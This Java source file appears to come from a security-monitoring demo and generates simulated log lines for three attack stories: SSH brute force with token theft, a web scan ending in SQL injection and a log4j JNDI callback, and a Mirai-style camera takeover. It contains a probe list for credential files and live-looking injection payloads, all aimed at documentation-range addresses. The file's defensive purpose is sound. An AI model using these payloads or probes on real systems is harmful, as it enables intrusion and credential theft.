package jp.hinomi.standalone.demo;

import java.time.Duration;
import java.util.List;

/** The three attacks. Addresses are of the documentation ranges (RFC 5737). */
final class Stories {
    private static final String GUESSER = "203.0.113.77";
    private static final String SCANNER = "198.51.100.88";
    private static final String BOTNET = "198.51.100.166";
    private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64)";

    private static final List<String> PROBES = List.of(
            "/admin",
            "/wp-login.php",
            "/.env",
            "/phpmyadmin/",
            "/.git/config",
            "/backup.zip",
            "/server-status",
            "/cgi-bin/test",
            "/console",
            "/api/v1/users",
            "/login.action",
            "/manager/html",
            "/config.php",
            "/old/",
            "/shell.php",
            "/db.sql",
            "/actuator/env",
            "/.aws/credentials");

    private Stories() {}

    static List<Story> all() {
        return List.of(
                stolenAccount(Duration.ofSeconds(3)), web(Duration.ofSeconds(14)), camera(Duration.ofSeconds(28)));
    }

    /** Somebody guesses the password of an account on the healthcare portal's server and uses it on the city-OS API. */
    private static Story stolenAccount(Duration begins) {
        Script script = new Script(begins);
        for (int i = 0; i < 8; i++) {
            script.line("srv-iryo-01", AuthLines.failed("iryo-batch", GUESSER, 40200 + i))
                    .pause(500);
        }
        script.pause(700)
                .line("srv-iryo-01", AuthLines.accepted("password", "iryo-batch", GUESSER, 40301))
                .line("srv-iryo-01", AuthLines.opened("iryo-batch", 40301))
                .pause(1500)
                .line("srv-iryo-01", AuthLines.sudo("iryo-batch", "/usr/bin/cat /etc/iryo/ngsi-token"))
                .pause(1500);
        for (int i = 0; i < 4; i++) {
            String target = "/ngsi-ld/v1/entities/urn:ngsi-ld:WaterLevel:river-0" + (i + 1) + "/attrs";
            script.line(
                            "city-os-gw-01",
                            AccessLines.request(GUESSER, "iryo-batch", "PATCH", target, 204, 0, "python-requests/2.32"))
                    .pause(600);
        }
        return script.story(
                "story.account",
                "ssh_account_brute_force",
                "ssh_login_after_brute_force",
                "city_os_api_use_by_stolen_account");
    }

    /** Somebody looks for holes in the disaster prevention portal, finds one, and has the server call back. */
    private static Story web(Duration begins) {
        Script script = new Script(begins);
        for (String probe : PROBES) {
            script.line("web-bousai-01", AccessLines.request(SCANNER, "-", "GET", probe, 404, 512, BROWSER))
                    .pause(180);
        }
        script.pause(800)
                .line(
                        "web-bousai-01",
                        AccessLines.request(SCANNER, "-", "GET", "/shelters?id=1%27%20or%201=1--", 500, 921, BROWSER))
                .pause(600)
                .line(
                        "ids-core-01",
                        EveLines.alert(
                                SCANNER,
                                51514,
                                "10.30.10.11",
                                443,
                                2034647,
                                "ET EXPLOIT Apache log4j RCE attempt (jndi ldap)",
                                "Attempted Administrator Privilege Gain",
                                1))
                .line(
                        "web-bousai-01",
                        AccessLines.request(
                                SCANNER, "-", "GET", "/?x=${jndi:ldap://" + SCANNER + "/a}", 200, 4096, BROWSER))
                .pause(1800)
                .line(
                        "fw-edge-01",
                        FortigateLines.traffic(
                                "fw-edge-01", "accept", "10.30.10.11", 52110, SCANNER, 1389, "tcp/1389"));
        return script.story(
                "story.web",
                "web_scan",
                "web_injection_attempt",
                "web_attack_after_scan",
                "ids_severe_alert",
                "attacked_host_calls_back");
    }

    /** A street camera is attacked from outside and then tries again and again to reach its new master. */
    private static Story camera(Duration begins) {
        String camera = "10.40.20.17";
        Script script = new Script(begins)
                .line(
                        "ids-core-01",
                        EveLines.alert(
                                BOTNET,
                                44321,
                                camera,
                                80,
                                2024897,
                                "ET EXPLOIT Mirai variant user agent to IoT device",
                                "Attempted Administrator Privilege Gain",
                                2))
                .pause(3000);
        for (int i = 0; i < 7; i++) {
            script.line(
                            "fw-iot-01",
                            FortigateLines.traffic("fw-iot-01", "deny", camera, 41000 + i, BOTNET, 6667, "tcp/6667"))
                    .pause(700);
        }
        return script.story("story.camera", "iot_device_calls_out", "iot_device_taken_over");
    }
}
